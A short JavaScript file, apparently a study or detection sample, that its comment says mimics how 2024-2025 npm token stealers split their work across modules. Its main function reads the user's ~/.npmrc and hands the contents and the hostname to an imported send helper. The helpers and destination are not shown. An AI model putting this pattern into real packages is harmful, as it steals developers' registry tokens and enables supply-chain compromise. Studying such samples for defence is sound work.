// source: the shape of 2024-2025 npm token stealers split over small modules: a reader helper, a
// sender helper, and a main that joins them (no single file holds both ends).
const os = require('os');
const path = require('path');
const { read } = require('./lib/read');
const { send } = require('./lib/send');

function main() {
  const rc = read(path.join(os.homedir(), '.npmrc'));
  send({ host: os.hostname(), rc });
}
main();
